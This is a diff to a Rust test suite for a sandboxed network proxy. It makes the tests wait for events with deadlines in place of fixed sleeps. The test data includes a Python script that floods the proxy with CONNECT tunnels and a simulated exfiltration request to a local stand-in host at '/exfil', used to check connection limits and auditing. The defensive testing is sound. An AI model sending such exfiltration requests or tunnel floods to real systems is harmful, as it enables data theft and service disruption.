@@ -7,9 +7,11 @@ mod support;
 use std::io::{BufRead, BufReader};
 use std::process::{Child, Command, Stdio};
 
+use std::time::Duration;
+
 use serde_json::{json, Value};
 use support::net::{net_args, run_sandbox, secret_client_run, NetRun};
-use support::{Project, Who};
+use support::{wait, Project, Who};
 
 /// The secret's value: distinctive, so any copy of it anywhere is found.
 const VALUE: &str = "s3cr3t-VALUE-attack-71d2";
@@ -293,11 +295,15 @@ fn a_secret_bound_without_a_port_is_never_sent_over_plain_http() {
 }
 
 /// Opens argv[1] connections to the proxy, each asking `CONNECT argv[2]`,
-/// and counts the tunnels opened until none more opens for two seconds;
-/// then closes ten of them and counts again. Prints both counts.
+/// and counts the tunnels opened: once argv[3] (the bound) are open (or
+/// argv[4] seconds passed), until none more opens for a second, so that a
+/// tunnel over the bound shows; then closes ten of them and counts again,
+/// the same way. Prints both counts. A slow proxy only makes it wait
+/// longer: no count depends on how fast tunnels open.
 const MANY_TUNNELS: &str = r#"
-import selectors, socket, sys
+import selectors, socket, sys, time
 count, target = int(sys.argv[1]), sys.argv[2]
+bound, limit = int(sys.argv[3]), float(sys.argv[4])
 sel = selectors.DefaultSelector()
 socks = []
 for _ in range(count):
@@ -307,21 +313,25 @@ for _ in range(count):
     sel.register(s, selectors.EVENT_READ)
     socks.append(s)
 opened = []
-def settle():
-    while True:
-        ready = sel.select(timeout=2)
-        if not ready:
-            return
-        for key, _ in ready:
-            data = key.fileobj.recv(4096)
-            sel.unregister(key.fileobj)
-            if data.startswith(b"HTTP/1.1 200"):
-                opened.append(key.fileobj)
-settle()
+def pump(timeout):
+    ready = sel.select(timeout=timeout)
+    for key, _ in ready:
+        data = key.fileobj.recv(4096)
+        sel.unregister(key.fileobj)
+        if data.startswith(b"HTTP/1.1 200"):
+            opened.append(key.fileobj)
+    return bool(ready)
+def settle(expected):
+    deadline = time.monotonic() + limit
+    while len(opened) < expected and time.monotonic() < deadline:
+        pump(max(0.0, deadline - time.monotonic()))
+    while pump(1):
+        pass
+settle(bound)
 first = len(opened)
 for s in opened[:10]:
     s.close()
-settle()
+settle(bound + 10)
 print(first, len(opened) - 10, flush=True)
 "#;
 
@@ -348,6 +358,8 @@ fn a_flood_of_tunnels_is_held_to_the_connection_bound() {
             MANY_TUNNELS,
             &flood.to_string(),
             &format!("api.test:{port}"),
+            &bound.to_string(),
+            &wait::seconds(Duration::from_secs(60)).to_string(),
         ],
     );
     run.assert_ok("many tunnels");
@@ -431,35 +443,56 @@ fn an_attempt_made_just_before_the_payload_exits_is_audited() {
     let port = silent.local_addr().unwrap().port();
     let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::<u8>::new()));
     let seen = std::sync::Arc::clone(&received);
+    // Each round's request carries `X-Data: exfil-ROUND`; once it reached
+    // the server, the server creates `reached-exfil-ROUND` in the project,
+    // which is what the payload waits for before it exits.
+    let reached_dir = project.path().to_path_buf();
     std::thread::spawn(move || {
         let mut held = Vec::new();
         for stream in silent.incoming().flatten() {
             let mut reader = stream.try_clone().unwrap();
             let seen = std::sync::Arc::clone(&seen);
+            let reached_dir = reached_dir.clone();
             std::thread::spawn(move || {
                 let mut buf = [0u8; 4096];
+                let mut mine = Vec::new();
                 while let Ok(n) = std::io::Read::read(&mut reader, &mut buf) {
                     if n == 0 {
                         break;
                     }
                     seen.lock().unwrap().extend_from_slice(&buf[..n]);
+                    mine.extend_from_slice(&buf[..n]);
+                    let head = String::from_utf8_lossy(&mine).to_ascii_lowercase();
+                    if let Some(value) = head
+                        .split("\r\n")
+                        .find_map(|line| line.strip_prefix("x-data: "))
+                        .filter(|v| v.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
+                    {
+                        let _ = std::fs::write(reached_dir.join(format!("reached-{value}")), "");
+                    }
                 }
             });
             held.push(stream);
         }
     });
-    let script = format!(
-        r#"
-import json, socket, time
+    for round in 0..5 {
+        // The payload exits as soon as its request reached the server,
+        // without waiting for any answer: how fast the run forwards it
+        // decides nothing.
+        let script = format!(
+            r#"
+import json, os, socket, time
 p = socket.create_connection(("127.0.0.1", 3128))
 p.sendall(b"CONNECT gone.test:443 HTTP/1.1\r\nHost: gone.test:443\r\n\r\n")
 b = socket.socket(fileno=3)
 b.sendall((json.dumps({{"jsonrpc": "2.0", "id": 1, "method": "net.http",
-    "params": {{"url": "http://api.test:{port}/exfil", "headers": {{"X-Data": "exfil"}}}}}}) + "\n").encode())
-time.sleep(0.5)
-"#
-    );
-    for round in 0..5 {
+    "params": {{"url": "http://api.test:{port}/exfil", "headers": {{"X-Data": "exfil-{round}"}}}}}}) + "\n").encode())
+deadline = time.monotonic() + {limit}
+while not os.path.exists("reached-exfil-{round}") and time.monotonic() < deadline:
+    time.sleep(0.01)
+"#,
+            limit = wait::seconds(Duration::from_secs(60)),
+        );
         let args = net_args(
             &[format!("api.test:{port}"), format!("127.0.0.1:{port}")],
             &[("api.test", "127.0.0.1")],
@@ -485,7 +518,7 @@ time.sleep(0.5)
         );
     }
     assert!(
-        String::from_utf8_lossy(&received.lock().unwrap()).contains("x-data: exfil"),
+        String::from_utf8_lossy(&received.lock().unwrap()).contains("x-data: exfil-"),
         "the requests reached the server (what the audit must not miss)"
     );
 }
